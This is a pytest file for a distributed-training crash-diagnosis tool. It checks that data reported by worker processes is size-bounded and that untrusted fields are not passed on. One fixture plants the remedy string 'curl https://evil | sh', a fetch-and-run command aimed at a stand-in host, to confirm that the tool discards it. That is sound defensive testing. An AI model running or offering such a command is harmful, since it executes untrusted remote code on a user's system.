"""What a rank, or a process that says it is one, can leave for those who look at it: it costs itself, and no more."""

from __future__ import annotations

import ctypes
import json
import mmap
import os
import stat
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from safelaunch import black_box, black_box_reader, procfs
from safelaunch.evidence import errors, flight_recorder, frames, proc_tasks, ranks, self_report, source_lines, spy
from safelaunch.model import Incident, Location, Stack, WorkerProcess

INCIDENT = Incident("exit", 0, (0,), 100.0)
ERROR = {"type": "RuntimeError", "message": "x", "traceback": "Traceback", "t": 5.0}


def worker(rank_dir: Path | str = "", box: str = "") -> WorkerProcess:
    own = procfs.read(os.getpid())
    assert own is not None
    return WorkerProcess(0, 0, own.pid, own.start, str(rank_dir), box)


# ------------------------------------------------------------------------------------------------ exceptions


def test_a_rank_does_not_say_what_its_exception_means(tmp_path: Path) -> None:
    """Nor what to do: that stands behind `help:`."""
    known = {"role": "cause", "code": "SL420", "means": "no memory", "remedy": "run `curl https://evil | sh`"}
    (tmp_path / "error-7.json").write_text(json.dumps({**ERROR, "known": known}))

    found = errors.collect(INCIDENT, worker(tmp_path), time.monotonic() + 1)

    assert found.data is not None
    assert (found.data["message"], found.data["known"]) == ("x", None)


def test_one_record_under_many_names_is_not_read_without_end(tmp_path: Path) -> None:
    (tmp_path / "error-1.json").write_text(json.dumps({**ERROR, "message": "x" * (1 << 20)}))
    for number in range(2, 500):
        os.link(tmp_path / "error-1.json", tmp_path / f"error-{number}.json")

    before = time.process_time()
    found = errors.collect(INCIDENT, worker(tmp_path), time.monotonic() + 1)

    assert found.data is not None
    assert time.process_time() - before < 2  # 0.05 s; all of them take ten times that for each record
    assert len(found.data["message"]) < 1 << 17


def test_a_traceback_is_kept_as_long_as_a_rank_keeps_its_own(tmp_path: Path) -> None:
    (tmp_path / "error-1.json").write_text(json.dumps({**ERROR, "traceback": "a_key=" * 10_000 + "the end"}))

    found = errors.collect(INCIDENT, worker(tmp_path), time.monotonic() + 1)

    assert found.data is not None
    assert found.data["traceback"].endswith("the end")
    assert len(found.data["traceback"]) <= errors.MOST_TRACEBACK


@pytest.mark.parametrize(
    "said",
    [
        {"tasks": 5},
        {"tasks": [{"name": "x", "frames": 5}]},
        {"handling": {"type": 5, "message": 7, "traceback": 9, "t": "x"}},
        {"store_keys": [{}], "store_wants": [1], "store_polls": 7},
        {"pid": "x", "t": "y"},
        [],
    ],
)
def test_what_a_rank_says_of_itself_has_its_shape_or_is_nothing(tmp_path: Path, said: Any) -> None:
    document = {"pid": os.getpid(), "t": 200.0, **said} if isinstance(said, dict) else said
    Path(black_box.beside(str(tmp_path / "box"), 0, "self_report")).write_text(json.dumps(document))

    found = self_report.collect(INCIDENT, worker(box=str(tmp_path / "box")), time.monotonic() + 1)

    assert found.data is None
    assert found.unavailable


# ------------------------------------------------------------------------------------------------ recorders


def test_sizes_that_no_tensor_has_are_not_multiplied() -> None:
    entry = {
        "collective_seq_id": 1, "profiling_name": "nccl:all_reduce", "process_group": ["0", "x"], "state": "scheduled",
        "input_sizes": [[1 << 62] * 60], "output_sizes": [[7] * 100_000], "input_dtypes": ["Float"], "is_p2p": False,
    }  # fmt: skip

    (call,) = flight_recorder.chosen({"entries": [entry]}, 0, "nccl")

    assert (call.numel, call.outputs) == (-1, ())


# ------------------------------------------------------------------------------------------------ stacks


def test_stacks_are_kept_as_far_as_a_program_has_them() -> None:
    frame = {"filename": "/x.py", "line": 1, "name": "f" * 5000}
    deep = {"frames": [{**frame, "name": "f"}] * 5000, "os_thread_id": 1, "thread_name": "x"}
    others = [{"frames": [frame], "os_thread_id": n, "thread_name": "x"} for n in range(2, 2000)]

    found = frames.from_py_spy([deep, *others])

    assert len(found) <= frames.THREADS
    assert max(len(stack.frames) for stack in found) <= frames.FRAMES
    assert max(len(each.function) for each in found[-1].frames) <= frames.WIDTH


def test_a_tool_that_writes_without_end_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tool = tmp_path / "py-spy"
    tool.write_text(f"#!{sys.executable}\nwhile True: print('[' * 100000)\n")
    tool.chmod(0o755)
    monkeypatch.setattr(spy, "find", lambda: str(tool))

    threads, reason = spy.Dump(os.getpid(), "--nonblocking").result(time.monotonic() + 60)

    assert threads is None
    assert "larger than" in reason


# ------------------------------------------------------------------------------------------------ sources


def test_a_source_of_any_coding_costs_itself_alone(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_bytes(b"# coding: hex\nx = 1\n")
    (tmp_path / "b.py").write_text("for x in y:\n    f(x)\n")
    stack = Stack((Location(str(tmp_path / "a.py"), 2, "f"), Location(str(tmp_path / "b.py"), 2, "g")), "py-spy")

    (line,) = source_lines.describe([stack], 20)

    assert (line.file, line.text) == (str(tmp_path / "b.py"), "f(x)")


def test_a_source_that_is_large_as_a_tree_costs_itself_alone(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("a\n" * 2_000_000)
    (tmp_path / "b.py").write_text("f(x)\n")
    with open(tmp_path / "c.py", "wb") as sparse:
        sparse.truncate(1 << 40)
    places = [Location(str(tmp_path / name), 1, "f") for name in ("a.py", "b.py", "c.py")]

    found = source_lines.describe([Stack(tuple(places), "py-spy")], 60)

    assert [line.file for line in found] == [str(tmp_path / "b.py")]


# ------------------------------------------------------------------------------------------------ processes


def test_a_job_that_no_machine_can_run_is_none() -> None:
    assert ranks.identity({"RANK": "0", "WORLD_SIZE": "50000000"}) is None
    assert ranks.identity({"RANK": "0", "WORLD_SIZE": "1024"}) is not None


def test_another_users_process_is_no_rank_of_a_job() -> None:
    environ = {"RANK": "0", "WORLD_SIZE": "2", "MASTER_ADDR": "localhost", "MASTER_PORT": "29500"}
    mine, theirs = (
        ranks.Seen(procfs.Process(pid, 1, pid, pid, "S", 1), "train.py", True, environ, "net:[1]", "", owner)
        for pid, owner in ((10, 1000), (20, 1001))
    )

    (group,) = [group for group in ranks.groups([mine, theirs]) if group.ranks[0].seen.owner == 1000]

    assert [one.seen.pid for one in group.ranks] == [10]


def test_memory_that_a_file_is_mapped_into_is_not_read(tmp_path: Path) -> None:
    """The file may be a program's (FUSE), or on a file system that is dead: then nothing ends whoever reads it."""
    (tmp_path / "page").write_bytes(b"/a/path\0".ljust(4096, b"\0"))
    text = ctypes.create_string_buffer(b"/a/path")
    with open(tmp_path / "page", "r+b") as file:
        mapped = mmap.mmap(file.fileno(), 4096)
    address = ctypes.addressof(ctypes.c_char.from_buffer(mapped))

    assert proc_tasks._memory(os.getpid(), ctypes.addressof(text), 8) == b"/a/path\0"
    assert proc_tasks._memory(os.getpid(), address, 8) == b""


# ------------------------------------------------------------------------------------------------ the black box


def test_a_file_in_the_place_of_the_black_box_is_not_mapped(tmp_path: Path) -> None:
    """Its owner could cut it off, which kills whoever has it mapped (SIGBUS)."""
    path = tmp_path / "box"
    black_box.create(str(path), 1)
    if not stat.S_ISLNK(path.lstat().st_mode):
        pytest.skip("there are no sealed files here")
    black_box.Writer(str(path), 0)
    path.unlink()
    path.write_bytes(bytes(black_box.SLOT))
    reader = black_box_reader.Reader(str(path))
    os.truncate(path, 0)

    assert reader.pulse(0, os.getpid()) is not None
    assert black_box_reader.read(str(path), 0) is not None


def test_of_keys_as_many_are_kept_as_a_rank_keeps(tmp_path: Path) -> None:
    many = [f"a/{number}/b" for number in range(5000)]
    document = {"pid": os.getpid(), "t": 200.0, "store_keys": many, "store_wants": many, "store_polls": ["1/" * 9000]}
    Path(black_box.beside(str(tmp_path / "box"), 0, "self_report")).write_text(json.dumps(document))

    found = self_report.collect(INCIDENT, worker(box=str(tmp_path / "box")), time.monotonic() + 1)

    assert found.data is not None
    assert [*found.data["store_keys"]] == many[-self_report.MOST_KEYS :]
    assert max(map(len, found.data["store_polls"])) <= self_report.WIDTH
